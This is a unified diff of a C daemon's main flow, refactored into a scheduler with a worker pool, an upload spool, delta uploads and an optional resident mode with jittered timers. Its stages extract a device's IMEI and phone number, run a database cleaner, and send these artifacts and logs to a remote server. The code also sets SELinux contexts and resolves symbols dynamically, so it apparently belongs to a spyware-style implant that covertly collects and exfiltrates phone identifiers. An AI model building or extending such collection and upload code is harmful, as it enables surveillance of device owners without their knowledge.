@@ -2,146 +2,386 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
-#include <unistd.h>
-#include <sys/types.h>
-#include <sys/wait.h>
-#include <sys/socket.h>
-#include <sys/prctl.h>
-#include <signal.h>
-#include <errno.h>
-#include <poll.h>
 
 #include "common.h"
 #include "ipc.h"
 #include "symbol_resolver.h"
 #include "modules.h"
+#include "scheduler.h"
+#include "worker_pool.h"
+#include "log_ring.h"
+#include "latency.h"
+#include "result_cache.h"
+#include "props.h"
+#include "resident.h"
+#include "tlv.h"
+#include "spool.h"
+#include "upload.h"
+
+/* Indices into the stage table below, used to declare dependencies */
+enum {
+    STAGE_DB_CLEANER = 0,
+    STAGE_IMEI,
+    STAGE_PHONE,
+    STAGE_SENDER,
+    STAGE_LOG_FLUSH,
+    STAGE_COUNT
+};
+
+/* Bounds the extra Logger round-trips when a run logged more than one batch holds */
+#define LOG_FLUSH_MAX_BATCHES   4
+
+static char g_upload_payload[IPC_REQUEST_ARG_MAX] = { 0 };
+static uint8_t g_upload_record[SPOOL_RECORD_MAX];  /* This run's UPLOAD record, spooled if not delivered */
+static size_t g_upload_record_len;
+static uint32_t g_upload_spooled;                   /* Spooled records ahead of it in the batch */
+static char g_upload_report[16];
+static spool_t g_spool;
+static upload_state_t g_acked;                      /* What the server acknowledged last */
+static char g_db_report[64];
+static char g_log_payload[IPC_REQUEST_ARG_MAX] = { 0 };
+static log_ring_t g_log_ring;
+static latency_stats_t g_latency;
+static result_cache_t g_results;
+static props_entry_t g_prop_entries[MODULE_COUNT];
+static props_snapshot_t g_props;
+static daemon_context_t g_ctx;
+
+static void prepare_log_flush(sched_stage_t* stage, const daemon_context_t* ctx)
+{
+    UNUSED(ctx);
+    log_ring_drain(&g_log_ring, g_log_payload, sizeof(g_log_payload));
+    stage->arg = g_log_payload;
+}
 
-static ProjectStatus wait_for_process_exit(pid_t pid)
+static void prepare_final_log_flush(sched_stage_t* stage, const daemon_context_t* ctx)
 {
-    int elapsed_ms = 0;
-    int status;
+    log_ring_push(&g_log_ring, LOG_STAGE_NONE, "All modules completed");
+    prepare_log_flush(stage, ctx);
+}
 
-    /* Phase 1: Natural Exit */
-    while (elapsed_ms < TIMEOUT_EXIT_MS) {
-        pid_t result = waitpid(pid, &status, WNOHANG);
-        if (result == -1 && errno == EINTR) continue;
-        if (result > 0) return STATUS_SUCCESS;
-        usleep(POLL_INTERVAL_MS * 1000);
-        elapsed_ms += POLL_INTERVAL_MS;
+/* CPU, memory and scheduling cost of the module process, next to its result */
+static void log_stage_usage(int stage_idx, const sched_stage_t* stage)
+{
+    const process_usage_t* u = &stage->usage;
+    if (!u->valid) {
+        return;     /* Served by a pooled worker, or never forked */
     }
+    log_ring_push(&g_log_ring, stage_idx, "usage: utime=%lluus stime=%lluus maxrss=%ldKiB flt=%ld/%ld csw=%ld/%ld",
+                  (unsigned long long)u->utime_us, (unsigned long long)u->stime_us, u->maxrss_kb,
+                  u->minflt, u->majflt, u->nvcsw, u->nivcsw);
+}
 
-    // Phase 2: Force Kill
-    ERROR("PID %d timed out. Sending SIGKILL.", pid)
-    kill(pid, SIGKILL);
-
-    elapsed_ms = 0;
-    while (elapsed_ms < TIMEOUT_EXIT_MS) {
-        pid_t result = waitpid(pid, &status, WNOHANG);
-        if (result == -1 && errno == EINTR) continue;
-        if (result > 0) return STATUS_SUCCESS;
-        usleep(POLL_INTERVAL_MS * 1000);
-        elapsed_ms += POLL_INTERVAL_MS;
+static void on_log_done(sched_stage_t* stage, daemon_context_t* ctx)
+{
+    UNUSED(ctx);
+    if (stage->status != STATUS_SUCCESS) {
+        ERROR("Failed to send log to server. continue...");
     }
-
-    ERROR("CRITICAL: PID %d is a Zombie.", pid);
-    return STATUS_ERR_ZOMBIE;
 }
 
-static pid_t spawn_module_process(const module_config_t* config, int* parent_fd, const char* arg)
+static void on_db_cleaner_done(sched_stage_t* stage, daemon_context_t* ctx)
 {
-    int sv[2] = { 0 };
-    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) < 0) {
-        return -1;
+    uint64_t report[3] = { 0 };     /* Rows deleted, pages freed, complete */
+    tlv_reader_t r;
+    tlv_field_t field;
+
+    tlv_reader_init(&r, stage->out_buf, stage->out_len);
+    while (tlv_next(&r, &field) == 1) {
+        if (field.tag >= RESULT_TAG_ROWS_DELETED && field.tag <= RESULT_TAG_CLEAN_COMPLETE) {
+            report[field.tag - RESULT_TAG_ROWS_DELETED] = field.u;
+        }
     }
+    log_ring_push(&g_log_ring, STAGE_DB_CLEANER, "DBCleaner done (status %d): deleted=%llu freed=%llu complete=%d",
+                  stage->status, (unsigned long long)report[0], (unsigned long long)report[1], (int)report[2]);
+    log_stage_usage(STAGE_DB_CLEANER, stage);
+    if (stage->status == STATUS_SUCCESS) {
+        ctx->db_cleaned = 1;
+    } else {
+        ERROR("Failed to clean DB. Continue...");
+    }
+}
 
-    pid_t pid = fork();
-    if (pid < 0) {
-        close(sv[0]); close(sv[1]);
-        return -1;
+static void on_imei_done(sched_stage_t* stage, daemon_context_t* ctx)
+{
+    log_ring_push(&g_log_ring, STAGE_IMEI, "IMEI done (status %d)", stage->status);
+    log_stage_usage(STAGE_IMEI, stage);
+    if (stage->status == STATUS_SUCCESS) {
+        ctx->has_imei = 1;
+    } else {
+        ERROR("Failed to extract IMEI. Continue...");
     }
+}
 
-    if (pid == 0) {
-        // --- Child ---
-        close(sv[0]);
-        int child_fd = sv[1];
+static void on_phone_done(sched_stage_t* stage, daemon_context_t* ctx)
+{
+    log_ring_push(&g_log_ring, STAGE_PHONE, "Phone done (status %d)", stage->status);
+    log_stage_usage(STAGE_PHONE, stage);
+    if (stage->status == STATUS_SUCCESS) {
+        ctx->has_phone = 1;
+    } else {
+        ERROR("Failed to extract Phone Number. Continue...");
+    }
+}
 
-        // Die if daemon dies
-        prctl(PR_SET_PDEATHSIG, SIGKILL);
+/* This run's artifacts as typed fields: the Sender alone decides the wire format */
+static ProjectStatus encode_upload(const daemon_context_t* ctx)
+{
+    tlv_writer_t w;
 
-        // Security Context
-        sal_set_selinux_context(config->selinux_context);
-        if (setresgid(config->gid, config->gid, config->gid) < 0) _exit(EXIT_FAILURE);
-        if (setresuid(config->uid, config->uid, config->uid) < 0) _exit(EXIT_FAILURE);
+    tlv_writer_init(&w, g_upload_record, sizeof(g_upload_record));
+    tlv_begin_record(&w, RESULT_TAG_UPLOAD);
+    if (ctx->has_imei) {
+        tlv_put_str(&w, RESULT_TAG_IMEI, ctx->imei);
+    }
+    if (ctx->has_phone) {
+        tlv_put_str(&w, RESULT_TAG_PHONE, ctx->phone);
+    }
+    tlv_put_uint(&w, RESULT_TAG_DB_CLEANED, (uint64_t)ctx->db_cleaned);
+    /* PARTIAL: the run deadline cut collection short, missing fields may just not have been read */
+    tlv_put_uint(&w, RESULT_TAG_PARTIAL, (uint64_t)ctx->partial);
+    tlv_end_record(&w);
+    return tlv_finish(&w, &g_upload_record_len);
+}
 
-        if (config->entry_point) config->entry_point(child_fd, arg);
-        _exit(EXIT_SUCCESS);
+/*
+ * The Sender gets one batch: the acknowledged state, as many spooled records as fit, oldest first,
+ * then this run's. The records are forwarded as they were spooled, nothing is re-encoded.
+ */
+static void prepare_upload(sched_stage_t* stage, const daemon_context_t* ctx)
+{
+    tlv_writer_t w;
+    spool_iter_t it;
+    const void* rec;
+    size_t rec_len;
+    size_t len = 0;
+
+    g_upload_spooled = 0;
+    if (encode_upload(ctx) != STATUS_SUCCESS) {
+        ERROR("Upload record does not fit");
+        g_upload_record_len = 0;
+        stage->arg = NULL;      /* The Sender rejects it, the stage fails */
+        return;
     }
 
-    // --- Parent ---
-    close(sv[1]);
-    *parent_fd = sv[0];
-    return pid;
+    /* The Sender only sends what changed since the state the server acknowledged last */
+    tlv_writer_init(&w, g_upload_payload, sizeof(g_upload_payload) - 1);
+    tlv_begin_record(&w, RESULT_TAG_BATCH);
+    tlv_put_uint(&w, RESULT_TAG_BASE_VERSION, g_acked.acked);
+    if (g_acked.len > 0) {
+        tlv_begin_record(&w, RESULT_TAG_BASELINE);
+        tlv_put_raw(&w, g_acked.fields, g_acked.len);
+        tlv_end_record(&w);
+    }
+    size_t room = w.cap - w.len - g_upload_record_len;
+    spool_iter_init(&g_spool, &it);
+    while (spool_iter_next(&g_spool, &it, &rec, &rec_len) && rec_len <= room) {
+        tlv_put_raw(&w, rec, rec_len);
+        room -= rec_len;
+        g_upload_spooled++;
+    }
+    tlv_put_raw(&w, g_upload_record, g_upload_record_len);
+    tlv_end_record(&w);
+
+    if (tlv_finish(&w, &len) != STATUS_SUCCESS) {
+        ERROR("Upload batch does not fit");
+        g_upload_spooled = 0;
+        stage->arg = NULL;
+        return;
+    }
+    stage->arg = g_upload_payload;
+    stage->arg_len = len;
 }
 
-static ProjectStatus execute_stage(int mod_id, const char* arg, char* out_buf, size_t size)
+/* Fields of the 'n'th UPLOAD record of the batch that was handed to the Sender, 'n' from 1 */
+static int batch_upload(size_t len, uint64_t n, tlv_field_t* upload)
 {
-    int fd = -1;
-    pid_t pid = -1;
-    const module_config_t* config = get_module_config(mod_id);
-    if (config == NULL) {
-        return STATUS_ERR_INVALID_ARG;
-    }
+    tlv_field_t batch;
+    tlv_reader_t r;
 
-    pid = spawn_module_process(config, &fd, arg);
-    if (pid < 0) {
-        return STATUS_ERR_FORK;
+    if (!tlv_find(g_upload_payload, len, RESULT_TAG_BATCH, &batch) || batch.type != TLV_RECORD) {
+        return 0;
     }
+    tlv_open_record(&batch, &r);
+    while (tlv_next(&r, upload) == 1) {
+        if (upload->tag == RESULT_TAG_UPLOAD && --n == 0) {
+            return 1;
+        }
+    }
+    return 0;
+}
 
-    ProjectStatus stage_status = STATUS_ERR_GENERIC;
-    struct pollfd pfd = { .fd = fd, .events = POLLIN };
-    int poll_res;
+/*
+ * Delivered records leave the spool; this run's record joins it unless it was delivered too. The
+ * last delivered record becomes the acknowledged state, only once the spool is synced: a crash in
+ * between leaves an older BASE_VERSION, which the server answers with a resync.
+ */
+static void on_upload_done(sched_stage_t* stage, daemon_context_t* ctx)
+{
+    UNUSED(ctx);
+    tlv_field_t field;
+    uint64_t sent = 0;
 
-    do {
-        poll_res = poll(&pfd, 1, TIMEOUT_IPC_MS);
-    } while (poll_res < 0 && errno == EINTR);
+    if (stage->status == STATUS_SUCCESS && tlv_find(stage->out_buf, stage->out_len, RESULT_TAG_SENT, &field)) {
+        sent = field.u;
+    }
+    log_ring_push(&g_log_ring, STAGE_SENDER, "Upload done (status %d): sent=%llu spooled=%u",
+                  stage->status, (unsigned long long)sent, g_spool.count);
+    log_stage_usage(STAGE_SENDER, stage);
+    if (stage->status != STATUS_SUCCESS) {
+        ERROR("Failed to send artifacts to server, spooling them");
+    } else if (tlv_find(stage->out_buf, stage->out_len, RESULT_TAG_RESYNC, &field)) {
+        log_ring_push(&g_log_ring, STAGE_SENDER, "Server asked for a full upload");
+    }
 
-    if (poll_res > 0 && (pfd.revents & POLLIN)) {
-        ipc_response_t resp;
-        ipc_init_response(&resp);
+    if (g_spool.map != NULL) {
+        spool_consume(&g_spool, (sent < g_upload_spooled) ? (uint32_t)sent : g_upload_spooled);
+        if (sent <= g_upload_spooled && g_upload_record_len > 0
+            && spool_append(&g_spool, g_upload_record, g_upload_record_len) != STATUS_SUCCESS) {
+            ERROR("Failed to spool the upload record");
+        }
+        if (spool_sync(&g_spool) != STATUS_SUCCESS) {
+            ERROR("Failed to sync the upload spool");
+        }
+    }
 
-        ProjectStatus ipc_res = ipc_receive_packet(fd, &resp);
+    if (sent > 0 && batch_upload(stage->arg_len, sent, &field) && field.len <= sizeof(g_acked.fields)) {
+        memcpy(g_acked.fields, field.data, field.len);
+        g_acked.len = (uint32_t)field.len;
+        g_acked.acked += sent;
+        if (upload_state_save(&g_acked, UPLOAD_STATE_PATH) != STATUS_SUCCESS) {
+            ERROR("Failed to persist the acknowledged upload state");
+        }
+    }
+}
 
-        if (ipc_res == STATUS_SUCCESS && resp.status_code == 0) {
-            if (out_buf && size > 0 && resp.data_len > 0) {
-                strncpy(out_buf, resp.payload, size - 1);
-                out_buf[size - 1] = '\0';
+/*
+ * This is the main flow of the daemon. Collection stages don't depend on each other, so the
+ * scheduler runs them concurrently. The upload waits for everything it reports on, and the
+ * log flush waits for the upload.
+ * Remote log lines are queued in g_log_ring and sent by a single Logger stage at the end.
+ * A module can complete in either: success, error, crash. Each stage's callback handles it.
+ * The run is bounded by RUN_DEADLINE_MS: upload and log flush are 'always' stages, they run
+ * even if collection had to be cut short, and the payload is flagged partial then.
+ */
+static const sched_stage_t g_stages[STAGE_COUNT] = {
+    [STAGE_DB_CLEANER] = {
+        .mod_id = MOD_ID_DB_CLEANER, .out_buf = g_db_report, .out_size = sizeof(g_db_report),
+        .complete = on_db_cleaner_done
+    },
+    [STAGE_IMEI] = {
+        .mod_id = MOD_ID_IMEI, .out_buf = g_ctx.imei, .out_size = sizeof(g_ctx.imei),
+        .complete = on_imei_done
+    },
+    [STAGE_PHONE] = {
+        .mod_id = MOD_ID_PHONE, .out_buf = g_ctx.phone, .out_size = sizeof(g_ctx.phone),
+        .complete = on_phone_done
+    },
+    /* The payload reports the DB state too, so the upload also waits for the cleaner */
+    [STAGE_SENDER] = {
+        .mod_id = MOD_ID_SENDER, .out_buf = g_upload_report, .out_size = sizeof(g_upload_report),
+        .deps = STAGE_BIT(STAGE_IMEI) | STAGE_BIT(STAGE_PHONE) | STAGE_BIT(STAGE_DB_CLEANER),
+        .prepare = prepare_upload, .complete = on_upload_done, .always = 1
+    },
+    [STAGE_LOG_FLUSH] = {
+        .mod_id = MOD_ID_LOGGER,
+        .deps = STAGE_BIT(STAGE_DB_CLEANER) | STAGE_BIT(STAGE_IMEI) | STAGE_BIT(STAGE_PHONE)
+              | STAGE_BIT(STAGE_SENDER),
+        .prepare = prepare_final_log_flush, .complete = on_log_done, .always = 1
+    },
+};
+
+#if CONFIG_RESIDENT_MODE
+/*
+ * Resident schedule. The log flush ticks at the log ring's age threshold and only runs when
+ * something is pending; every other run also flushes once the ring asks for it.
+ */
+static resident_job_t g_jobs[] = {
+    { .stages = STAGE_BIT(STAGE_IMEI) | STAGE_BIT(STAGE_PHONE), .interval_ms = RESIDENT_COLLECT_MS,
+      .jitter_ms = RESIDENT_COLLECT_MS / 100 * RESIDENT_JITTER_PCT, .first_run = 1 },
+    { .stages = STAGE_BIT(STAGE_SENDER), .interval_ms = RESIDENT_UPLOAD_MS,
+      .jitter_ms = RESIDENT_UPLOAD_MS / 100 * RESIDENT_JITTER_PCT, .first_run = 1 },
+    { .stages = STAGE_BIT(STAGE_DB_CLEANER), .interval_ms = RESIDENT_DB_CLEAN_MS,
+      .jitter_ms = RESIDENT_DB_CLEAN_MS / 100 * RESIDENT_JITTER_PCT, .first_run = 1 },
+    { .stages = STAGE_BIT(STAGE_LOG_FLUSH), .interval_ms = LOG_RING_FLUSH_MS },
+};
+#endif
+
+/*
+ * One run over the stages in 'due'. Dependencies on stages outside of it are dropped: those ran
+ * in an earlier run, and their results are still in g_ctx. Everything below main()'s setup
+ * (SAL, pool, histograms, result cache) stays warm from one run to the next.
+ */
+static ProjectStatus run_pipeline(uint32_t due, void* cookie)
+{
+    worker_pool_t* pool = cookie;
+    sched_stage_t stages[STAGE_COUNT];
+    int slot[STAGE_COUNT];
+    size_t count = 0;
+
+    if (log_ring_should_flush(&g_log_ring, log_ring_now_ms())) {
+        due |= STAGE_BIT(STAGE_LOG_FLUSH);
+    } else if (g_log_ring.count == 0) {
+        due &= ~STAGE_BIT(STAGE_LOG_FLUSH);
+    }
+    for (int i = 0; i < STAGE_COUNT; i++) {
+        slot[i] = -1;
+        if (due & STAGE_BIT(i)) {
+            slot[i] = (int)count;
+            stages[count++] = g_stages[i];
+        }
+    }
+    if (count == 0) {
+        return STATUS_SUCCESS;
+    }
+    for (size_t j = 0; j < count; j++) {
+        uint32_t deps = stages[j].deps;
+        stages[j].deps = 0;
+        for (int i = 0; i < STAGE_COUNT; i++) {
+            if ((deps & STAGE_BIT(i)) && slot[i] >= 0) {
+                stages[j].deps |= STAGE_BIT(slot[i]);
             }
-            stage_status = STATUS_SUCCESS;
-        } else {
-            ERROR("Module %s IPC/Logic Error: %d", config->name, ipc_res);
-            stage_status = (ipc_res != STATUS_SUCCESS) ? ipc_res : STATUS_ERR_MODULE_FAIL;
         }
-    } else if (poll_res == 0) {
-        ERROR("Module %s Timeout", config->name);
-        stage_status = STATUS_ERR_TIMEOUT;
-    } else {
-        ERROR("Module %s Poll Error", config->name);
-        stage_status = STATUS_ERR_POLL;
     }
 
-    close(fd);
-    ProjectStatus reap_status = wait_for_process_exit(pid);
-    if (reap_status != STATUS_SUCCESS) return reap_status;
+    /* One area serial load when no property moved since the last run */
+    if (g_ctx.props != NULL) {
+        props_snapshot_refresh(g_ctx.props);
+    }
+
+    g_ctx.partial = 0;
+    g_ctx.deadline_ms = sched_clock_ms() + RUN_DEADLINE_MS;
+    ProjectStatus run_status = sched_run(stages, count, &g_ctx, pool);
+    if (run_status == STATUS_ERR_INVALID_ARG) {
+        ERROR("Invalid stage graph");
+    } else if (run_status != STATUS_SUCCESS) {
+        ERROR("Run failed: a critical module did not complete");
+    }
+
+    /* Only if the run logged more than one batch holds */
+    for (int batch = 0; batch < LOG_FLUSH_MAX_BATCHES && (due & STAGE_BIT(STAGE_LOG_FLUSH)) && g_log_ring.count > 0
+         && sched_clock_ms() < g_ctx.deadline_ms; batch++) {
+        sched_stage_t flush = { .mod_id = MOD_ID_LOGGER, .prepare = prepare_log_flush, .complete = on_log_done };
+        sched_run(&flush, 1, &g_ctx, pool);
+    }
 
-    return stage_status;
+    /* Persisted after every run: a resident daemon can still be killed or rebooted any time */
+    if (result_cache_save(&g_results, RESULT_CACHE_PATH) != STATUS_SUCCESS) {
+        ERROR("Failed to persist the result cache");
+    }
+    if (latency_save(&g_latency, LATENCY_STATS_PATH) != STATUS_SUCCESS) {
+        ERROR("Failed to persist latency histograms");
+    }
+#if CONFIG_LATENCY_EXPORT
+    latency_export_csv(&g_latency, LATENCY_EXPORT_CSV);
+    latency_export_json(&g_latency, LATENCY_EXPORT_JSON);
+#endif
+    return run_status;
 }
 
 int main()
 {
     DEBUG("Daemon started");
-    char log_buf[512] = { 0 };
-    daemon_context_t ctx = { 0 };
-    char payload[IPC_PACKET_SIZE] = { 0 };
 
     /* Initialize all dynamic symbol resolving */
     if(sal_init() != STATUS_SUCCESS) {
@@ -149,57 +389,61 @@ int main()
         return -1;
     }
 
-    /* 
-     * This is the main flow of the daemon. We'll call one module at a time, waiting for it's completion.
-     * A module can complete in either: success, error, crash. We handle each event accordingly.
-     * In case a critical module crashes, the daemon exists.
-     */
-
-    DEBUG("Sending log to server");
-    snprintf(log_buf, sizeof(log_buf), "Starting daemon flow");
-    if (execute_stage(MOD_ID_LOGGER, log_buf, NULL, 0) != STATUS_SUCCESS) {
-        ERROR("Failed to send log to server. continue...");
-    }
-
-    DEBUG("Cleaning DB...");
-    if (execute_stage(MOD_ID_DB_CLEANER, NULL, NULL, 0) == STATUS_SUCCESS) {
-        ctx.db_cleaned = 1;
+    worker_pool_t* pool = NULL;
+#if CONFIG_WORKER_POOL
+    static worker_pool_t worker_pool;
+    if (pool_init(&worker_pool, WORKER_POOL_MAX_REQUESTS) == STATUS_SUCCESS) {
+        pool = &worker_pool;
     } else {
-        ERROR("Failed to clean DB. Continue...");
+        ERROR("Failed to start worker pool, forking per stage");
     }
+#endif
 
-    DEBUG("Extracting IMEI...");
-    if (execute_stage(MOD_ID_IMEI, NULL, ctx.imei, sizeof(ctx.imei)) == STATUS_SUCCESS) {
-        ctx.has_imei = 1;
-    } else {
-        ERROR("Failed to extract IMEI. Continue...");
+    log_ring_init(&g_log_ring);
+    log_ring_push(&g_log_ring, LOG_STAGE_NONE, "Starting daemon flow");
+
+    /* Stage latencies accumulate across runs */
+    latency_load(&g_latency, LATENCY_STATS_PATH);
+    g_ctx.latency = &g_latency;
+
+    /* Stable results (IMEI, phone number) are reused while their change signals hold */
+    result_cache_load(&g_results, RESULT_CACHE_PATH);
+    g_ctx.results = &g_results;
+
+    /* Their property signals are read from a snapshot, refreshed once per run */
+    size_t prop_count = 0;
+    for (int i = 0; i < MODULE_COUNT; i++) {
+        const module_config_t* config = get_module_config(i);
+        if (config != NULL && config->cache != NULL && config->cache->signal == CACHE_SIGNAL_PROPERTY) {
+            g_prop_entries[prop_count++].name = config->cache->source;
+        }
+    }
+    if (prop_count > 0 && props_snapshot_init(&g_props, g_prop_entries, prop_count) == STATUS_SUCCESS) {
+        g_ctx.props = &g_props;
     }
 
-    DEBUG("Extracting Phone Number...");
-    if (execute_stage(MOD_ID_PHONE, NULL, ctx.phone, sizeof(ctx.phone)) == STATUS_SUCCESS) {
-        ctx.has_phone = 1;
-    } else {
-        ERROR("Failed to extract Phone Number. Continue...");
+    /* Artifacts a failed upload left behind go out first, as deltas against the acknowledged state */
+    if (spool_open(&g_spool, SPOOL_PATH) != STATUS_SUCCESS) {
+        ERROR("Failed to open the upload spool");
     }
+    upload_state_load(&g_acked, UPLOAD_STATE_PATH);
 
-    DEBUG("Sending log to server");
-    snprintf(log_buf, sizeof(log_buf), "All modules completed");
-    if (execute_stage(MOD_ID_LOGGER, log_buf, NULL, 0) != STATUS_SUCCESS) {
-        ERROR("Failed to send log to server. continue...");
+#if CONFIG_RESIDENT_MODE
+    ProjectStatus run_status = resident_loop(g_jobs, sizeof(g_jobs) / sizeof(g_jobs[0]), run_pipeline, pool);
+    if (run_status != STATUS_SUCCESS) {
+        ERROR("Resident loop failed");
     }
+#else
+    ProjectStatus run_status = run_pipeline(STAGE_BIT(STAGE_COUNT) - 1, pool);
+#endif
 
-    /* After performing everything we wanted, communicate with the server */
-    DEBUG("Uploading artifacts to server...");
-    snprintf(payload, sizeof(payload), "IMEI:%s|PHONE:%s|DB:%d",
-        ctx.has_imei ? ctx.imei : "N/A",
-        ctx.has_phone ? ctx.phone : "N/A",
-        ctx.db_cleaned
-    );
-    if (execute_stage(MOD_ID_SENDER, payload, NULL, 0) != STATUS_SUCCESS) {
-        ERROR("Failed to send artifacts to server");
+    if (pool != NULL) {
+        pool_destroy(pool);
     }
+    spool_close(&g_spool);
 
     /* Cleanup */
     sal_cleanup();
-    return 0;
-}
\ No newline at end of file
+    trace_dump();
+    return (run_status == STATUS_SUCCESS) ? 0 : 1;
+}